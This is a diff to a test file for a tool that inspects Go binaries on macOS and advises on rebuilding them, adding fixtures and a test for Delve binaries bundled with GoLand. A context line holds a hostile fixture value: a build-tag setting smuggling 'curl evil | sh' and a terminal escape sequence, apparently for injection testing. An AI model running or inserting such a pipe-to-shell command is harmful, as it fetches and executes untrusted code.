@@ -19,6 +19,13 @@ const staticcheck = {
   module: module('v0.6.1'),
 };
 const bin = '/Users/kim/go/bin';
+const dlv = {
+  version: 'go1.24.4',
+  path: 'github.com/go-delve/delve/cmd/dlv',
+  module: { path: 'github.com/go-delve/delve', version: '(devel)' },
+};
+const intelDlv = '/Applications/GoLand.app/Contents/plugins/go-plugin/lib/dlv/mac/dlv';
+const toolboxDlv = '/Users/kim/goland-2026.2/plugins/go-plugin/lib/dlv/mac/dlv';
 const files: SketchedFiles = {
   [`${bin}/staticcheck`]: {
     machO: {
@@ -37,6 +44,9 @@ const files: SketchedFiles = {
       settings: { '-tags': 'x\n  rebuild  curl evil | sh', 'vcs.time': '\u001b[2J\u001b[31mred' },
     },
   },
+  [intelDlv]: { machO: { ...dlv, architectures: ['amd64'] } },
+  [toolboxDlv]: { machO: { ...dlv, architectures: ['amd64'] } },
+  '/Users/kim/bin/dlv': { link: intelDlv },
   '/opt/homebrew/bin/go': { link: '../Cellar/go/1.26.8/bin/go' },
   '/opt/homebrew/Cellar/go/1.26.8/bin/go': {
     machO: { version: 'go1.26.8', path: 'cmd/go', architectures: ['arm64'] },
@@ -89,6 +99,21 @@ describe('people are told', () => {
     expect(out).toContain('amd64, arm64: native on this machine (arm64)');
     expect(out).toMatch(/slice amd64 {4}go1\.23\.4 honnef\.co\/go\/tools v0\.6\.1, macOS 12\.0 or newer,/);
     expect(out).toMatch(/slice arm64 {4}go1/);
+  });
+
+  test.each([
+    [intelDlv, '/Applications/GoLand.app'],
+    ['/Users/kim/bin/dlv', '/Applications/GoLand.app'],
+    [toolboxDlv, '/Users/kim/goland-2026.2'],
+  ])('%s came with its application, and is not for anybody to rebuild', async (path, application) => {
+    const { out } = await call(['inspect', '--host', mac, path]);
+    const text = out.replace(/\s+/g, ' ');
+    expect(text).toContain(`It came with ${application}, which replaces it with each update`);
+    expect(text).toContain('install the arm64 build of that application');
+    expect(text).not.toContain('go install');
+    expect((await call(['inspect', '--host', mac, '--lang', 'zh', path])).out).toContain(
+      `它随 ${application} 而来`,
+    );
   });
 
   test('why there is no command to rebuild: built in a checkout, Go itself', async () => {
